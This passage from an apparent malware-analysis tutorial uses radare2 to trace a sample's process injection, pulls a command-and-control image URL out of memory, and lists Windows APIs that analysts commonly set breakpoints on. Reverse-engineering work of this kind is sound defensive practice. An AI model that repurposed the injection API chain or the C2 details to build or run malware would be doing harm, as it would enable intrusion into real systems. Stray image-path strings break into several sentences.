        |   0x00714e76      52             push edx|   0x00714e77      e884cbffff     call 0x711a00
        |   0x00714e7c      83c40c         add esp, 0xc
        |   0x00714e7f      8945fc         mov dword [ebp - 4], eax
       ,==< 0x00714e82      eb1a           jmp 0x714e9e
       |`-> 0x00714e84      8d45d0         lea eax, [ebp - 0x30]
       |    0x00714e87      50             push eax
       |    0x00714e88      8b4d14         mov ecx, dword [ebp + 0x14]
       |    0x00714e8b      51             push ecx
       |    0x00714e8c      8b5510         mov edx, dword [ebp + 0x10]
       |    0x00714e8f      52             push edx
       |    0x00714e90      8b45f0         mov eax, dword [ebp - 0x10]
       |    0x00714e93      50             push eax
       |    0x00714e94      8b4d08         mov ecx, dword [ebp + 8]
       |    0x00714e97      51             push ecx
       |    0x00714e98      ff5520         call dword [ebp + 0x20]     ; 32
       |    0x00714e9b      8945fcmov dword [ebp - 4], eax
       `--> 0x00714e9e      8b45fc         mov eax, dword [ebp - 4]
            0x00714ea1      8be5           mov esp, ebp
            0x00714ea3      5d             pop ebp
            0x00714ea4      c3             ret

If we move there we can confirm our hypothesis:

[0x00714df0]> db 0x00714e77
[0x00714df0]> dc
hit breakpoint at: 0x714e77
[0x00714e77]> pxr @ esp
0x0019f0c0 0x0000003a  :... @ esp 58 edx,eax ascii (':')
0x0019f0c4 0x0019f0cc  .... PRIVATE  ecx R W 0x31c
0x0019f0c8 0x00000005  .... 5
0x0019f0cc 0x0000031c  .... @ ecx 796
0x0019f0d0 ..[ null bytes ]..   00000000
0x0019f0d4 0x0066006c  l.f. MAPPED  ascii ('l') R 0x1740000
0x0019f0d8 ..[ null bytes ]..   00000000
0x0019f0dc 0x0078f270  p.x. PRIVATE  R W 0xe8f18b56
0x0019f0e0 ..[ null bytes ]..   00000000
0x0019f0e4 0x00007924  $y.. 31012 ascii ('$')
0x0019f0e8 ..[ null bytes ]..   00000000
0x0019f0ec 0x0019f0f4  .... PRIVATE  R W 0x19efd0
0x0019f0f0 ..[ null bytes ]..   00000000
0x0019f0f4 0x0019efd0  .... PRIVATE  R W 0x36323631 1626After being called, we’ll see that getting written into the remote process (0x0066006c argument):


And if we move forward we see a similar call, by inspecting it, we’ll get to the C2 url!

[0x00714e77]> pd 20 @ 0x0078f270
            0x0078f270      56             push esi
            0x0078f271      8bf1           mov esi, ecx
            0x0078f273      e848030000     call 0x78f5c0
            0x0078f278      6800800000     push 0x8000
            0x0078f27d      6a00           push 0
            0x0078f27f      56             push esi
            0x0078f280      baddf553cd     mov edx, 0xcd53f5dd
            0x0078f285      8bc8           mov ecx, eax
            0x0078f287      e8d4000000     call 0x78f360

after another call

Which can be easily extracted from memory:

[0x00714e77]> pxw @ 0x0019fb30
0x0019fb30  0x70747468 0x2f2f3a73 0x6d692e69 0x2e727567  https://i.imgur.
0x0019fb40  0x2f6d6f63 0x68736d65 0x2e545445 0x00676e70  com/emshETT.png.0x0019fb50  0x00000000 0x3bc01699 0x3bc01699 0x3bc01699  .......;...;...;
0x0019fb60  0x3bc01699 0x3bc01699 0x3bc01699 0x3bc01699  ...;...;...;...;

And will appear right after on the remote process:


And corresponds to this image (screenshot):


At this point we can debug the remote process, place breakpoints there andcontinue the inspection. We’ll see references to WINNINET API calls downading that image, storting itinto TMP and using it for config extraction, as well as the spawn and migration to cmd.exe process and some regedit… but we’ll get into that in future posts, enough for today:)

Apis to watch out for

Any of these may qualify for a breakpoint when analyzing malware. Note that Zw and Nt can be used as prefixes as well as A/W as suffixes.


  • VirtualAllocEx
  • VirtualAlloc
  • VirtualProtectEx
  • ReadProcessMemory
  • WriteProcessMemory
  • CreateProcess
  • CreateRemoteThread
  • CreateToolhelp32Snapshot
  • Process32First
  • Process32Next


To unmap memory:

  • NtUnmapViewOfSection
  • zWUnmapViewOfSection
  • NtFlushVirtualMemory
  • ZwFlushVirtualMemoryTo allocate, read and write memory:

  • NtWriteVirtualMemory
  • NtProtectVirtualMemory
  • NtAllocateVirtualMemory
  •NtQueryVirtualMemory
  • NtReadVirtualMemory

To execute:

  • NtCreateThread
  • NtResumeThread
  •NtOpenProcess
Malware analysis with IDA/Radare2 - PE Injection techniques, the fundamentals
Older post

Malware analysis with IDA/Radare2 - DLL Injectiontechniques, the fundamentals